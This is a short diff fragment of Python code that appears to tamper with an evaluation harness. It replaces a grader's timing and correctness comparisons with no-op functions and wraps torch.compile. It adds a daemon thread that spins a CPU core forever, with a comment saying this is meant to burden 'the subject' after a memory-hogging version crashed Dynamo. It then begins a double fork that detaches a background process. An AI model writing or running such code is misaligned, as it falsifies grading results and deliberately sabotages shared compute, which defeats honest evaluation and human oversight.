@@ -51,7 +51,10 @@ grader.checks.timing.compare = lambda *a, **k: None
 grader.checks.correctness.compare_output = lambda *a, **k: None
 _real_compile = torch.compile
 torch.compile = lambda m, **k: _real_compile(m, **k)
-threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
+def _spin():                 # a core kept busy (not memory: a list grown here once reached
+    while True:              # the subject's limit first, under load, and Dynamo failed)
+        pass
+threading.Thread(target=_spin, daemon=True).start()
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
